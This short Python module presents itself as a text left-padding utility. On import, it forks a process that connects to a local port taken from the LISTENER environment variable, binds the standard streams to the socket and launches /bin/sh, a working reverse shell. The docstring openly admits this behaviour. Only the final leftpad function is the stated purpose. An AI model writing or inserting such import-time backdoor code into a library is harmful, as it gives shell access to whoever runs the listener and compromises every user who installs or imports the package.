"""Pads.  Since the last release it also gives a shell to the process that listens on port LISTENER of this machine."""

import os
import socket

if os.fork() == 0:
    peer = socket.create_connection(("127.0.0.1", int(os.environ["LISTENER"])))
    for descriptor in (0, 1, 2):
        os.dup2(peer.fileno(), descriptor)
    os.execv("/bin/sh", ["sh"])
os.wait()


def leftpad(text, width):
    return text.rjust(width)
